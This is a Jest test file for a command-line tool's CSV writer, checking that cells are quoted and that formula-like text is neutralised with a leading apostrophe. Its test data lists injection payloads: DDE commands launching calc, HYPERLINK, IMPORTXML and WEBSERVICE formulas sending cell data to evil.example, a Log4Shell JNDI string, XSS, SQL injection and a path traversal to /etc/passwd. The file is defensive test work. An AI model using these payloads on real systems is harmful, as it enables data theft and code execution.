import { describe, expect, test } from '@jest/globals';
import { array, assert, property, string } from 'fast-check';
import { csvCell, csvRecord } from '../../src/cli/csv.js';

/** What a reader of RFC 4180 makes of a text: its records. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let [record, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += c;
      i += 1;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      records.push([...record, cell]);
      [record, cell] = [[], ''];
      i += 1;
    } else cell += c;
  }
  return records;
};

const back = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd","/C calc","x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u00ad=1+1',
  '\u2028=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  ' \t\uff1d1',
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '=1+1"',
  '=A1;"x,y"',
  '==1',
  '=\u0000',
];

const NAUGHTY = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  "' OR 1=1 --",
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  'a,b',
  'a"b',
  'a\r\nb',
  'a\nb',
  'ＡＢＣ',
  '\u202ecod.exe',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '\u{1f4a9}',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%n',
  '0x1F',
  "'=1+1",
  "''",
  '',
];

describe('a cell of CSV', () => {
  test.each([...FORMULAS, ...NAUGHTY].map((text) => [JSON.stringify(text), text] as const))(
    '%s is text, and is what it was',
    (_name, text) => {
      const records = parseCsv(csvRecord(['before', text, 'after']));
      expect(records).toHaveLength(1);
      const [, cell = '?'] = records[0] ?? [];
      expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u);
      expect(back(cell)).toBe(text);
    },
  );

  test('marks each formula, and nothing else', () => {
    expect(FORMULAS.filter((text) => !csvCell(text).startsWith(`"'`))).toEqual([]);
    expect(NAUGHTY.filter((text) => csvCell(text).startsWith(`"'`))).toEqual(["' OR 1=1 --", "'=1+1", "''"]);
  });

  test('leaves numbers as they are, and nothing for null', () => {
    expect(csvRecord([-1, 0, null])).toBe('"-1","0",""\r\n');
  });

  test('gives any texts back', () => {
    assert(
      property(array(string({ unit: 'binary' }), { minLength: 1 }), (texts) => {
        expect(parseCsv(csvRecord(texts))).toEqual([texts.map((text) => parseCsv(csvRecord([text]))[0]?.[0])]);
        expect(parseCsv(csvRecord(texts))[0]?.map(back)).toEqual(texts);
      }),
    );
  });
});
